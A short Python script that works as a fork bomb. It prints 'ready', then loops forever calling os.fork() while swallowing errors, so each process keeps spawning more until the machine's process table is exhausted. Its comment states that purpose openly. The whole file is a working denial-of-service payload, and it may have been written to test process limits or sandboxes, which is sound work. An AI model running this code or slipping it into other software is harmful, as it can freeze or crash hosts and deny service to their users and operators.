# Starts as many processes as it can, and so do they.
import os

print("ready", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
